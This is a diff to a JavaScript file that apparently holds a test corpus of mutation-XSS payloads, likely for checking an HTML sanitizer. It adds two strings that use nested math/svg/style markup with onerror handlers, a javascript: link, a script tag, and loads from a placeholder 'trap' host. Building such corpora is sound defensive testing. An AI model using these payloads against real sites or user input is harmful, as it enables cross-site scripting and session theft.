@@ -51,6 +51,8 @@ export const own = (trap) => [
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}"></style></mglyph></form>`,
   `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`,
   `<math><mi><table><mglyph><style><math href="</style><img src=x onerror=${RUN}>"></math></style></mglyph></table></mi></math>`,
+  `<math><mi><table><mglyph><style><img src="${trap}/mutated.png" onerror="${RUN}"><a href="javascript:${RUN}">x<script>${RUN}`,
+  `<svg><desc><table><mglyph><style><img src="${trap}/mutated2.png" onerror="${RUN}"><iframe src="${trap}/mutated3">`,
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
   `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed><noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
   `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea><xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
